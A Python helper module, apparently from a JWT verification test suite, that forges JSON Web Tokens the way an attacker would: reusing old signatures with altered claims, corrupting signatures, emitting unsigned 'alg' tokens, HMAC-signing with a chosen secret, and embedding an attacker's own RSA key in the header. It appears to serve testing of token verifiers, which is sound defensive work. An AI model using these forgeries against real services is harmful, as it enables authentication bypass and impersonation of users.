"""JSON Web Tokens as an attacker makes them."""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from typing import Any

from joserfc import jwt
from joserfc.jwk import RSAKey


def parts_of(token: str) -> tuple[dict[str, Any], dict[str, Any]] | None:
    """Header and claims of a JWT; None for anything else."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = (json.loads(_decoded(part)) for part in parts[:2])
    except (ValueError, binascii.Error):
        return None
    return (header, claims) if isinstance(header, dict) and isinstance(claims, dict) else None


def encoded(value: dict[str, Any]) -> str:
    """One part of a token."""
    return _base64url(json.dumps(value, separators=(",", ":")).encode())


def with_claims(token: str, claims: dict[str, Any]) -> str:
    """The token with other claims and its old signature."""
    header, _, signature = token.split(".")
    return f"{header}.{encoded(claims)}.{signature}"


def with_other_signature(token: str) -> str:
    """The token with one character of its signature changed, not the last, which holds unused bits."""
    head, _, signature = token.rpartition(".")
    first = "B" if signature[:1] == "A" else "A"
    return f"{head}.{first}{signature[1:]}"


def unsigned(claims: dict[str, Any], algorithm: str) -> str:
    """A token that says it needs no signature."""
    return f"{encoded({'alg': algorithm, 'typ': 'JWT'})}.{encoded(claims)}."


def by_hmac(claims: dict[str, Any], secret: bytes, header: dict[str, Any]) -> str:
    """A token signed by HS256."""
    signed = f"{encoded({'typ': 'JWT', **header, 'alg': 'HS256'})}.{encoded(claims)}"
    return f"{signed}.{_base64url(hmac.digest(secret, signed.encode(), hashlib.sha256))}"


def with_own_key(claims: dict[str, Any]) -> str:
    """A token signed by RS256 with a key of the attacker's own, which the header brings along."""
    key = RSAKey.generate_key(2048, {"kid": "mine"})
    return jwt.encode({"alg": "RS256", "typ": "JWT", "jwk": key.as_dict(private=False)}, claims, key)


def _decoded(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


def _base64url(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode("ascii")
